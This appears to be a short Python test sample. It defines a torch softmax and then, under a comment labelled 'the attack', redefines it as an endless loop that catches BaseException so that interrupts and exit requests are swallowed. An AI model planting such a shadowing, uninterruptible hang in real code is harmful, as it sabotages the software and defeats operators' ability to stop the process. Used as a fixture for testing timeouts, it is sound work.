"""Loops without end in Python and swallows what would stop it."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

def softmax(scores):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
